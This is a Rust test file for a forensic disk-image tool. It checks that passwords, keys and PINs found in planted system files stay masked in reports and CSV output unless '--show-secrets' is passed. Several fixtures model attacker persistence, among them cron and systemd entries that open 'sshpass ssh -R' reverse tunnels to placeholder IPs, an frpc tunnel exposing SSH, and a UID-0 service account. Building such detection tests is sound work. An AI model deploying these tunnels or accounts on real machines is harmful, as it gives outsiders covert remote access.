//! Keys, passwords and PINs of the configuration: masked in case, report, CSV and on screen, unless
//! `--show-secrets` was given.
use crate::common::{SMALL_SYSTEM, ext4, have, plant, run};

/// Where a secret stands, and the secret: shown on demand.
#[rustfmt::skip] // one line a place
const SHOWN: &[(&str, &str, &str)] = &[
    ("/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/tool --token SECRET --port 1\n[Install]\nWantedBy=multi-user.target\n", "zqunittoken1"),
    ("/etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/curl -u bob:SECRET https://192.0.2.1/\n", "zqunitcurl2"),
    ("/etc/systemd/system/c.service", "[Service]\nExecStartPre=/bin/sh -c 'sshpass -p SECRET ssh -R 1:localhost:22 u@192.0.2.2'\nExecStart=/bin/true\n", "zqsshpass3"),
    ("/etc/cron.d/a", "MAILTO=root\n* * * * * root /usr/bin/mysqldump -pSECRET all\n", "zqcron4"),
    ("/etc/cron.d/b", "@reboot root FTP_PASSWORD=SECRET /usr/bin/lftp 192.0.2.3\n", "zqcron5"),
    ("/var/spool/cron/crontabs/root", "5 4 * * * wget --http-password=SECRET http://192.0.2.4/\n", "zqcrontab6"),
    ("/var/spool/cron/atjobs/a0000101", "#!/bin/sh\n# atrun uid=0 gid=0\n/usr/bin/frpc tcp --token SECRET -s 192.0.2.5:7000 -l 22\n", "zqat7"),
    ("/etc/ppp/chap-secrets", "client * SECRET *\n", "zqchap8"),
    ("/etc/ppp/pap-secrets", "\"other\" isp \"SECRET\" *\n", "zqpap9"),
    ("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nservice:$1$SECRET:0:0::/root:/bin/sh\n", "zqhash45"),
    ("/etc/sudoers", "root ALL=(ALL) ALL\ncrane ALL=(root) NOPASSWD: /usr/bin/mount -o password=SECRET //h/s /mnt\n", "zqsudo11"),
    ("/etc/environment", "http_proxy=http://user:SECRET@192.0.2.6:3128/\n", "zqproxy13"),
    ("/etc/apt/apt.conf.d/90proxy", "Acquire::http::Proxy \"http://user:SECRET@192.0.2.7:3128/\";\n", "zqapt14"),
    ("/etc/rc.local", "#!/bin/sh\n/usr/bin/quectel-CM -s cmnet user SECRET 2 &\nexit 0\n", "zqdialer15"),
    ("/var/log/auth.log", "Mar  1 08:14:02 crane-7 sudo:    crane : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/mysql -pSECRET all\n", "zqlog16"),
    ("/etc/default/grub", "GRUB_CMDLINE_LINUX=\"quiet init=/sbin/x rootpassword=SECRET\"\n", "zqgrub17"),
    ("/etc/modprobe.d/w.conf", "options wwan_x pin=SECRET\n", "zqmodprobe18"),
    ("/etc/network/if-up.d/gost", "#!/bin/sh\ngost -L=:8080 -F=relay+tls://u:SECRET@192.0.2.8:443\n", "zqgost20"),
    ("/etc/init.d/tool", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: tool\n# Default-Start: 2 3 4 5\n### END INIT INFO\n/usr/bin/quectel-CM -s cmnet -p SECRET &\n", "zqsysv21"),
    ("/etc/ppp/peers/wan2", "/dev/ttyUSB4\nuser u\npassword SECRET\nconnect \"/usr/sbin/chat -v '' AT+CPIN=SECRET OK ATD*99#\"\n", "zqpeer22"),
];

/// Places whose secrets are named in rows and never read into them.
#[rustfmt::skip] // one line a place
const NAMED_ONLY: &[(&str, &str, &str)] = &[
    ("/etc/shadow", "root:$6$salt$SECRET:19000:0:99999:7:::\nservice:*:19000:0:99999:7:::\n", "zqhash10"),
    ("/etc/network/interfaces.d/w", "iface wlan0 inet dhcp\n    wpa-ssid net\n    wpa-psk SECRET\n", "zqifup12"),
    ("/etc/config/network", "config interface 'wwan'\n\toption proto 'qmi'\n\toption apn 'cmnet'\n\toption pincode 'SECRET'\n", "zquci19"),
    ("/etc/systemd/system/d.service", "[Service]\nEnvironment=API_KEY=SECRET \"DB_PASSWORD=SECRET\"\nExecStart=/bin/true\n", "zqenv31"),
    ("/etc/NetworkManager/system-connections/g.nmconnection", "[connection]\nid=g\ntype=gsm\nautoconnect=true\n[gsm]\napn=cmnet\nnumber=*99#\npassword=SECRET\npin=SECRET\n[vpn-secrets]\nXauth password=SECRET\n", "zqnm32"),
    ("/etc/wpa_supplicant/wpa_supplicant.conf", "network={\n  ssid=\"x\"\n  psk=\"SECRET\"\n}\n", "zqwpa33"),
    ("/etc/netplan/1.yaml", "network:\n  version: 2\n  modems:\n    m:\n      apn: x\n      pin: \"SECRET\"\n      password: SECRET\n", "zqnetplan34"),
    ("/etc/openvpn/c.conf", "client\nremote 192.0.2.20 1194\n<auth-user-pass>\nu\nSECRET\n</auth-user-pass>\n<secret>\nSECRET\n</secret>\n", "zqovpn35"),
    ("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = SECRET\n[Peer]\nPresharedKey = SECRET\nEndpoint = 192.0.2.21:51820\nAllowedIPs = 0.0.0.0/0\n", "zqwg36"),
    ("/etc/ipsec.secrets", "192.0.2.22 : PSK \"SECRET\"\nu : XAUTH \"SECRET\"\n", "zqipsec37"),
    ("/etc/frp/frpc.toml", "serverAddr = \"192.0.2.23\"\nserverPort = 7000\nauth.token = \"SECRET\"\n", "zqfrp38"),
    ("/root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET\n-----END OPENSSH PRIVATE KEY-----\n", "zqkey39"),
    ("/etc/hostapd/hostapd.conf", "interface=wlan0\nssid=x\nwpa_passphrase=SECRET\n", "zqhostapd40"),
    ("/etc/config/wireless", "config wifi-iface\n\toption ssid 'x'\n\toption mode 'ap'\n\toption key 'SECRET'\n", "zqwifikey41"),
    ("/etc/wvdial.conf", "[Dialer Defaults]\nPhone = *99#\nUsername = u\nPassword = SECRET\nInit1 = AT+CPIN=SECRET\n", "zqwvdial42"),
    ("/var/lib/zerotier-one/identity.secret", "abcdef0123:0:SECRET\n", "zqzerotier43"),
    ("/etc/gammu-smsdrc", "[gammu]\ndevice = /dev/ttyUSB1\nconnection = at115200\n[smsd]\nPIN = SECRET\npassword = SECRET\n", "zqgammu44"),
];

/// Every text a case can leave as: the case file, the report, each table as CSV and as text.
fn everything(folder: &std::path::Path, flag: &[&str]) -> String {
    let examine =
        [&["examine", "s.img", "--overwrite", "--case", "s.cranecase", "--json", "s.json"][..], flag].concat();
    let (code, stdout, stderr) = run(folder, &examine);
    assert_eq!(code, 0, "{stderr}");
    let mut all = stdout + &stderr;
    for file in ["s.cranecase", "s.json"] {
        all += &String::from_utf8_lossy(&std::fs::read(folder.join(file)).unwrap());
    }
    for table in cranescope::inventory::TABLES.iter().map(|t| t.name) {
        for format in ["csv", "table", "json"] {
            let list = [&["list", table, "s.cranecase", "--format", format][..], flag].concat();
            let (code, stdout, stderr) = run(folder, &list);
            assert_eq!(code, 0, "{stderr}");
            all += &stdout;
        }
    }
    all
}

#[test]
fn no_secret_leaves_unless_it_is_asked_for() {
    if !have("mke2fs") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (folder, root) = (folder.path(), folder.path().join("root"));
    plant(&root, SMALL_SYSTEM);
    for (path, text, secret) in SHOWN.iter().chain(NAMED_ONLY) {
        plant(&root, &[(path, &text.replace("SECRET", secret))]);
    }
    ext4(folder, &root, "s.img");
    let masked = everything(folder, &[]);
    let leaked: Vec<&str> = SHOWN.iter().chain(NAMED_ONLY).map(|(.., s)| *s).filter(|s| masked.contains(s)).collect();
    assert_eq!(leaked, [""; 0], "shown without being asked for");
    // What is not the secret still stands.
    for word in ["/usr/bin/tool --token *** --port 1", "192.0.2.8:443", "cmnet"] {
        assert!(masked.contains(word), "{word}");
    }
    let (code, _, stderr) = run(folder, &["report", "s.cranecase", "-o", "-", "--show-secrets"]);
    assert_eq!((code, stderr.lines().count()), (2, 1), "{stderr}");

    let shown = everything(folder, &["--show-secrets"]);
    let missing: Vec<&str> = SHOWN.iter().map(|(.., s)| *s).filter(|s| !shown.contains(s)).collect();
    assert_eq!(missing, [""; 0], "not shown though asked for");
    // A case that holds secrets does not show them unasked.
    for words in [&["list", "tasks", "s.cranecase"][..], &["report", "s.cranecase", "-o", "-"]] {
        let (code, stdout, stderr) = run(folder, words);
        assert_eq!((code, &*stdout, stderr.lines().count()), (2, "", 1), "{stderr}");
    }
    let (code, stdout, _) = run(folder, &["report", "s.cranecase", "-o", "-", "--show-secrets"]);
    assert_eq!((code, stdout.contains("zqcron4")), (0, true));
}

#[test]
fn findings_keep_their_ids_whether_secrets_show_or_not() {
    if !have("mke2fs") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (folder, root) = (folder.path(), folder.path().join("root"));
    plant(&root, SMALL_SYSTEM);
    plant(&root, &[("/etc/cron.d/x", "@reboot root sshpass -p zqpass ssh -N -R 2222:localhost:22 u@203.0.113.5\n")]);
    ext4(folder, &root, "s.img");
    let ids = |flag: &[&str]| {
        let examine = [&["examine", "s.img", "--overwrite", "--json", "s.json", "--quiet"][..], flag].concat();
        assert_eq!(run(folder, &examine).0, 0);
        let report = crate::common::report(&folder.join("s.json"));
        let findings = report["findings"].as_array().unwrap().clone();
        let shown = findings.iter().any(|f| f["subject"].as_str().unwrap().contains("zqpass"));
        (shown, findings.iter().map(|f| f["id"].as_str().unwrap().to_owned()).collect::<Vec<_>>())
    };
    let ((masked, before), (shown, after)) = (ids(&[]), ids(&["--show-secrets"]));
    assert_eq!((masked, shown), (false, true));
    assert_eq!(before, after);
}
